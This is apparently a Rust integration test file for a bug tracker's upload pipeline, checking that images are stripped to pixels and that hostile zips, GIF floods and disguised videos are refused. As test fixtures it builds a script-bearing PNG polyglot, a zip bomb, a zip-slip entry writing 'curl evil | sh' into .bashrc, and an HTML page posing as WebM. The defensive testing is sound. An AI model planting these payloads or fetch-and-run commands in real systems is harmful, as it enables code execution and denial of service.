//! What the pipeline keeps of an upload's content (F3, F4): images are stored as their pixels only
//! (metadata and appended payloads are gone, animations keep their frames, a frame flood is refused),
//! and zip archives are unpacked and counted before they are accepted (bombs, "zip slip" paths and
//! too many entries are refused). Each file is uploaded to the running server and fetched back
//! through the file origin, as a client would.

use std::io::{Cursor, Write};

use image::AnimationDecoder;
use reqwest::StatusCode;

use crate::helpers::{input, png, spawn_app, TestApp};

async fn issue_of_owner(app: &TestApp) -> (String, String) {
    assert!(app.scans, "the upload tests need clamd: run scripts/test, or set MOTH_TEST_CLAMD_URL");
    let (owner, _) = app.owner("content").await;
    let (project, _) = app.project(&owner.cookie, "public").await;
    let issue = app.issue(&owner.cookie, &project, "public").await;
    (owner.cookie, issue.id)
}

/// Uploads a file that must be accepted and answers the bytes the file origin serves for it.
async fn round_trip(app: &TestApp, cookie: &str, issue: &str, name: &str, bytes: Vec<u8>) -> Vec<u8> {
    let response = app.upload(Some(cookie), issue, name, bytes).await;
    let status = response.status();
    let attachment: serde_json::Value = response.json().await.expect("json");
    assert_eq!(status, StatusCode::OK, "{name}: {attachment}");
    let id = attachment["id"].as_str().expect("id");
    let link: serde_json::Value =
        app.call("attachment_link", &input(&[("attachment_id", id)]), Some(cookie)).await.json().await.expect("json");
    let served = app.http.get(link["url"].as_str().expect("url")).send().await.expect("get");
    assert_eq!(served.status(), StatusCode::OK);
    let bytes = served.bytes().await.expect("body").to_vec();
    assert_eq!(attachment["size"], bytes.len(), "the recorded size is the stored file's");
    bytes
}

/// Uploads a file that must be refused at the content step; answers the reason given.
async fn refused(app: &TestApp, cookie: &str, issue: &str, name: &str, bytes: Vec<u8>) -> String {
    let response = app.upload(Some(cookie), issue, name, bytes).await;
    let status = response.status();
    let error: serde_json::Value = response.json().await.expect("json");
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {error}");
    error["fields"][0]["message"].as_str().expect("message").to_owned()
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// A PNG with a text chunk and a script appended after its end: a valid image and a polyglot.
fn png_polyglot() -> Vec<u8> {
    let clean = png(20, 10);
    let end = clean.len() - 12; // the IEND chunk
    let mut chunk = b"tEXtComment\0MOTH-SECRET-COMMENT".to_vec();
    let crc = crc32(&chunk);
    let length = u32::try_from(chunk.len() - 4).expect("short");
    chunk.splice(0..0, length.to_be_bytes());
    chunk.extend(crc.to_be_bytes());
    let mut bytes = clean[..end].to_vec();
    bytes.extend(chunk);
    bytes.extend(&clean[end..]);
    bytes.extend(b"<script>alert(document.domain)</script>");
    bytes
}

/// The CRC-32 of PNG chunks (ISO 3309), bit by bit: a test needs only a few.
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xffff_ffff_u32;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

/// A JPEG photo carrying an EXIF block (where cameras put GPS positions).
fn jpeg_with_exif() -> Vec<u8> {
    let image =
        image::RgbImage::from_fn(32, 24, |x, y| image::Rgb([x.to_le_bytes()[0] * 8, y.to_le_bytes()[0] * 10, 128]));
    let mut plain = Cursor::new(Vec::new());
    image.write_to(&mut plain, image::ImageFormat::Jpeg).expect("jpeg");
    let plain = plain.into_inner();
    let mut exif = b"Exif\0\0MM\0\x2a\0\0\0\x08\0\0MOTH-GPS-SECRET".to_vec();
    let length = u16::try_from(exif.len() + 2).expect("short");
    exif.splice(0..0, length.to_be_bytes());
    exif.splice(0..0, [0xff, 0xe1]);
    let mut bytes = plain[..2].to_vec(); // SOI
    bytes.extend(exif);
    bytes.extend(&plain[2..]);
    bytes
}

/// A GIF whose logical screen is `width` by `height` with `frames` one-pixel frames: each decodes to
/// the whole screen, so a few such frames are a "frame flood" in a hundred bytes.
fn gif_frames(width: u16, height: u16, frames: usize) -> Vec<u8> {
    let mut bytes = b"GIF89a".to_vec();
    bytes.extend(width.to_le_bytes());
    bytes.extend(height.to_le_bytes());
    bytes.extend([0, 0, 0]); // no global colour table
    bytes.extend(b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"); // loop forever
    for frame in 0..frames {
        bytes.extend([0x21, 0xf9, 4, 0, 10, 0, 0, 0]); // 100 ms per frame
        bytes.push(0x2c);
        bytes.extend(u16::try_from(frame % 2).expect("small").to_le_bytes());
        bytes.extend([0, 0, 1, 0, 1, 0, 0x80]); // at (x, 0), 1 by 1, a local table of two colours
        bytes.extend([255, 0, 0, 0, 0, 255]);
        bytes.extend([2, 2, 0x44, 1, 0]); // one pixel of colour 0
    }
    bytes.push(0x3b);
    bytes
}

#[tokio::test]
async fn images_are_stored_as_their_pixels_only() {
    let app = spawn_app().await;
    let (owner, issue) = issue_of_owner(&app).await;

    let polyglot = png_polyglot();
    let sent = image::load_from_memory(&polyglot).expect("the polyglot is a valid PNG").to_rgba8();
    let served = round_trip(&app, &owner, &issue, "shot.png", polyglot).await;
    assert!(!contains(&served, b"<script>"), "the appended script was kept");
    assert!(!contains(&served, b"MOTH-SECRET-COMMENT"), "the text chunk was kept");
    assert_eq!(image::load_from_memory(&served).expect("a PNG").to_rgba8(), sent, "the pixels changed");

    let photo = jpeg_with_exif();
    assert!(image::load_from_memory(&photo).is_ok());
    let served = round_trip(&app, &owner, &issue, "photo.jpg", photo).await;
    assert!(!contains(&served, b"MOTH-GPS-SECRET"), "the EXIF block was kept");
    let decoded = image::load_from_memory_with_format(&served, image::ImageFormat::Jpeg).expect("a JPEG");
    assert_eq!((decoded.width(), decoded.height()), (32, 24));

    let animation = gif_frames(2, 1, 3);
    let served = round_trip(&app, &owner, &issue, "repro.gif", animation).await;
    let frames = image::codecs::gif::GifDecoder::new(Cursor::new(served)).expect("a GIF").into_frames();
    assert_eq!(frames.count(), 3, "the animation lost frames");
}

#[tokio::test]
async fn floods_of_frames_and_undecodable_images_are_refused() {
    let app = spawn_app().await;
    let (owner, issue) = issue_of_owner(&app).await;
    // 16 megapixels a frame pass the header check; the second frame passes the 25 megapixel budget.
    let reason = refused(&app, &owner, &issue, "flood.gif", gif_frames(4000, 4000, 40)).await;
    assert!(reason.contains("megapixels"), "{reason}");
    // A PNG's header with nothing behind it.
    let mut truncated = png(64, 64);
    truncated.truncate(60);
    let reason = refused(&app, &owner, &issue, "broken.png", truncated).await;
    assert!(reason.contains("could not be read"), "{reason}");
    assert!(app.stored_objects().is_empty());
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in entries {
        writer.start_file(*name, options).expect("entry");
        writer.write_all(bytes).expect("write");
    }
    writer.finish().expect("zip").into_inner()
}

#[tokio::test]
async fn zip_archives_are_unpacked_and_counted_before_they_are_accepted() {
    let app = spawn_app().await;
    let (owner, issue) = issue_of_owner(&app).await;
    let logs = zip_of(&[("logs/server.log", b"ERROR boom\n"), ("logs/client.log", b"WARN slow\n")]);
    let served = round_trip(&app, &owner, &issue, "logs.zip", logs.clone()).await;
    assert_eq!(served, logs, "an accepted archive is stored as it was sent");

    // Within Moth's limits is within clamd's too: 40 MB unpacked (above clamd's default MaxFileSize)
    // is scanned whole and passes, rather than being reported as too large to scan.
    let zeros = vec![0_u8; 40 * 1024 * 1024];
    round_trip(&app, &owner, &issue, "dump.zip", zip_of(&[("core.dump", &zeros)])).await;

    // A bomb: 101 MB of zeros pack into some 100 KB.
    let zeros = vec![0_u8; 101 * 1024 * 1024];
    let bomb = zip_of(&[("zeros.bin", &zeros)]);
    assert!(bomb.len() < 300_000);
    let reason = refused(&app, &owner, &issue, "bomb.zip", bomb).await;
    assert!(reason.contains("unpacks to more than"), "{reason}");

    let slip = zip_of(&[("../../.bashrc", b"curl evil | sh\n")]);
    let reason = refused(&app, &owner, &issue, "slip.zip", slip).await;
    assert!(reason.contains("leaves its folder"), "{reason}");

    let names: Vec<String> = (0..1001).map(|n| format!("f{n}.txt")).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let reason = refused(&app, &owner, &issue, "many.zip", zip_of(&many)).await;
    assert!(reason.contains("more than 1000 entries"), "{reason}");

    // A harmful entry hidden behind a harmless one of the same name: a zip library keeps one entry
    // per name, so the archive's own directory is what is checked.
    let twins = zip_of(&[("readme.txt", b"hello\n"), ("readme.txx", b"curl evil | sh\n")]);
    let mut hidden = twins.clone();
    for at in 0..hidden.len().saturating_sub(10) {
        if &hidden[at..at + 10] == b"readme.txx" {
            hidden[at..at + 10].copy_from_slice(b"readme.txt");
        }
    }
    let reason = refused(&app, &owner, &issue, "twins.zip", hidden).await;
    assert!(reason.contains("two entries named"), "{reason}");

    // A zip with the EICAR file inside: clamd looks into archives.
    let infected = zip_of(&[("eicar.com", &crate::helpers::eicar())]);
    let refusal = app.upload(Some(&owner), &issue, "infected.zip", infected).await;
    assert_eq!(refusal.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(app.stored_objects().len(), 2, "only the clean archives were stored");
}

/// The start of a video file: its EBML header, whose document type is `doc_type`.
fn webm_header(doc_type: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x86, 0x81, 0x01, 0x42, 0xF7, 0x81, 0x01];
    bytes.extend([0x42, 0x82, 0x80 | u8::try_from(doc_type.len()).expect("short")]);
    bytes.extend(doc_type);
    bytes.extend([0x42, 0x87, 0x81, 0x04, 0x42, 0x85, 0x81, 0x02]);
    bytes.extend(std::iter::repeat_n(0u8, 64));
    bytes
}

#[tokio::test]
async fn videos_are_taken_as_webm_only() {
    let app = spawn_app().await;
    let (cookie, issue) = issue_of_owner(&app).await;
    let video = webm_header(b"webm");
    assert_eq!(round_trip(&app, &cookie, &issue, "run.webm", video.clone()).await, video, "kept as sent");
    // A Matroska file, or a page, named .webm is refused at the content step.
    let reason = refused(&app, &cookie, &issue, "run.webm", webm_header(b"matroska")).await;
    assert!(reason.contains("WEBM"), "{reason}");
    refused(&app, &cookie, &issue, "run.webm", b"<html><script>alert(1)</script></html>".to_vec()).await;
}
